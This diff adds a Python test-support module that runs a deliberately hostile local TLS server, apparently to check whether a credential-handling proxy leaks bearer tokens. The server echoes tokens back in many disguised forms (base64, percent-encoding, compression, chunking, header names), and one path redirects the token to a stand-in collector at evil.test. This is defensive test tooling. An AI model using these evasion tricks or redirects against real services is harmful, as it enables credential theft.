@@ -1,0 +1,226 @@
+"""Servers for the attack suite: a hostile TLS upstream and a plain-HTTP one.
+
+The hostile upstream takes the credential it receives in ``Authorization`` (after "Bearer ",
+when present) and sends it back in every form a careless or hostile service might use:
+encoded, compressed, split across chunks, in odd places of the response. It records what it
+received, like tests.support.upstream.
+
+Paths (VALUE is the received credential):
+  /reason             401 whose reason phrase carries VALUE
+  /header-name        a response header *named* X-VALUE
+  /b64, /b64url       VALUE base64-encoded (standard, URL-safe alphabet)
+  /basic-b64          base64("user:" + VALUE), as an echoed Basic credential
+  /pct                VALUE percent-encoded, every reserved byte
+  /json-slash         VALUE in JSON with "/" escaped as "\\/" (Go, PHP style)
+  /json-html          VALUE in JSON with <, >, & escaped as \\u003c... (Go's default)
+  /nested-json        VALUE JSON-encoded twice (a JSON document quoted inside a JSON string)
+  /drip               VALUE, one byte per chunk (chunked transfer encoding)
+  /sse                a text/event-stream carrying VALUE split across three chunks
+  /br, /deflate, /zstd  VALUE in a body compressed with that encoding
+  /gzip-split-ce      gzip body, with two Content-Encoding headers: "identity" and "gzip"
+  /snappy             Content-Encoding: snappy (the proxy can't decode it), VALUE inside
+  /corrupt-gzip       Content-Encoding: gzip; a gzip header, then garbage holding VALUE
+  /not-gzip           Content-Encoding: gzip, but the body is plain text holding VALUE
+  /redirect-echo      302 to https://evil.test:PORT/collect?t=VALUE
+  /ok, anything else  200 "ok"
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import socket
+import ssl
+import threading
+import time
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+from urllib.parse import parse_qs, quote, urlsplit
+
+import brotli
+import trustme
+import zstandard
+
+from tests.support.upstream import Received
+
+
+@dataclass
+class Server:
+    names: tuple[str, ...]
+    port: int = 0
+    received: list[Received] = field(default_factory=list)
+    server: ThreadingHTTPServer | None = None
+
+    def hosts_that_got(self, needle: str) -> set[str]:
+        """Host header names of recorded requests whose bytes contain ``needle``."""
+        return {
+            (r.header("Host") or "").rsplit(":", 1)[0].lower()
+            for r in self.received
+            if needle.encode() in r.raw()
+        }
+
+    def close(self) -> None:
+        if self.server is not None:
+            self.server.shutdown()
+            self.server.server_close()
+
+
+def credential(rec: Received) -> str:
+    auth = rec.header("Authorization") or ""
+    return auth.split(" ", 1)[1] if auth.lower().startswith("bearer ") else auth
+
+
+def _chunked(parts: list[bytes]) -> bytes:
+    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts if p) + b"0\r\n\r\n"
+
+
+def _handler(srv: Server, hostile: bool) -> type[BaseHTTPRequestHandler]:
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+        def _record(self) -> Received:
+            if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
+                body = b""
+                while True:
+                    size = int(self.rfile.readline().split(b";")[0], 16)
+                    if size == 0:
+                        self.rfile.readline()
+                        break
+                    body += self.rfile.read(size)
+                    self.rfile.readline()
+            else:
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length) if length else b""
+            rec = Received(self.command, self.path, list(self.headers.items()), body)
+            srv.received.append(rec)
+            return rec
+
+        def _send(self, status: int, body: bytes, headers: list[tuple[str, str]] | None = None,
+                  reason: str | None = None) -> None:
+            self.send_response(status, reason)
+            for k, v in headers or []:
+                self.send_header(k, v)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def _stream(self, parts: list[bytes], headers: list[tuple[str, str]]) -> None:
+            self.send_response(200)
+            for k, v in headers:
+                self.send_header(k, v)
+            self.send_header("Transfer-Encoding", "chunked")
+            self.send_header("Connection", "close")
+            self.end_headers()
+            for part in parts:
+                self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
+                self.wfile.flush()
+                time.sleep(0.002)
+            self.wfile.write(b"0\r\n\r\n")
+            self.wfile.flush()
+            self.close_connection = True
+
+        def _dispatch(self) -> None:
+            rec = self._record()
+            if not hostile:
+                self._send(200, b"plain ok\n", [("Content-Type", "text/plain")])
+                return
+            url = urlsplit(self.path)
+            q = {k: v[0] for k, v in parse_qs(url.query).items()}
+            value = credential(rec)
+            raw = value.encode()
+            echo = json.dumps({"token": value}).encode()
+            text = [("Content-Type", "text/plain")]
+            jsn = [("Content-Type", "application/json")]
+            path = url.path
+            if path == "/reason":
+                self._send(401, b"denied\n", text, reason=f"Bad token {value}")
+            elif path == "/header-name":
+                self._send(200, b"ok\n", [(f"X-{value}", "1"), *text])
+            elif path == "/b64":
+                self._send(200, base64.b64encode(raw), text)
+            elif path == "/b64url":
+                self._send(200, base64.urlsafe_b64encode(raw), text)
+            elif path == "/basic-b64":
+                self._send(200, base64.b64encode(b"user:" + raw), text)
+            elif path == "/pct":
+                self._send(200, quote(value, safe="").encode(), text)
+            elif path == "/json-slash":
+                self._send(200, echo.replace(b"/", b"\\/"), jsn)
+            elif path == "/json-html":
+                body = json.dumps({"token": value}).replace("<", "\\u003c")
+                body = body.replace(">", "\\u003e").replace("&", "\\u0026")
+                self._send(200, body.encode(), jsn)
+            elif path == "/nested-json":
+                self._send(200, json.dumps({"doc": echo.decode()}).encode(), jsn)
+            elif path == "/drip":
+                self._stream([bytes([b]) for b in b"token=" + raw + b"\n"], text)
+            elif path == "/sse":
+                event = b'data: {"echo": "' + raw + b'"}\n\n'
+                third = max(1, len(event) // 3)
+                self._stream([event[:third], event[third : 2 * third], event[2 * third :]],
+                             [("Content-Type", "text/event-stream")])
+            elif path == "/br":
+                self._send(200, brotli.compress(echo), [*jsn, ("Content-Encoding", "br")])
+            elif path == "/deflate":
+                self._send(200, zlib.compress(echo), [*jsn, ("Content-Encoding", "deflate")])
+            elif path == "/zstd":
+                self._send(200, zstandard.ZstdCompressor().compress(echo),
+                           [*jsn, ("Content-Encoding", "zstd")])
+            elif path == "/gzip-split-ce":
+                self._send(200, gzip.compress(echo), [
+                    *jsn, ("Content-Encoding", "identity"), ("Content-Encoding", "gzip")])
+            elif path == "/snappy":
+                self._send(200, b"\xff\x06\x00\x00sNaPpY" + echo,
+                           [*jsn, ("Content-Encoding", "snappy")])
+            elif path == "/corrupt-gzip":
+                body = gzip.compress(b"")[:10] + b"\xff\xfe" + echo
+                self._send(200, body, [*jsn, ("Content-Encoding", "gzip")])
+            elif path == "/not-gzip":
+                self._send(200, echo, [*jsn, ("Content-Encoding", "gzip")])
+            elif path == "/redirect-echo":
+                to = f"https://evil.test:{q.get('port', srv.port)}/collect?t={value}"
+                self._send(302, b"", [("Location", to)])
+            else:
+                self._send(200, b"ok\n", text)
+
+        do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = _dispatch
+
+    return Handler
+
+
+def _serve(srv: Server, handler: type[BaseHTTPRequestHandler],
+           wrap: Callable[[socket.socket], socket.socket] | None) -> Server:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    server.daemon_threads = True
+    if wrap is not None:
+        server.socket = wrap(server.socket)
+    srv.server = server
+    srv.port = server.server_address[1]
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return srv
+
+
+def start_hostile(ca: trustme.CA, names: tuple[str, ...]) -> Server:
+    """A TLS upstream with a certificate from ``ca`` for ``names`` (and 127.0.0.1)."""
+    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    ca.issue_cert(*names, "127.0.0.1").configure_cert(ctx)
+    srv = Server(names)
+    return _serve(srv, _handler(srv, True),
+                  lambda s: ctx.wrap_socket(s, server_side=True))
+
+
+def start_plain(names: tuple[str, ...]) -> Server:
+    """A plain-HTTP server that records what it gets and answers "plain ok"."""
+    srv = Server(names)
+    return _serve(srv, _handler(srv, False), None)
+
+
+def chunked(parts: list[bytes]) -> bytes:
+    return _chunked(parts)
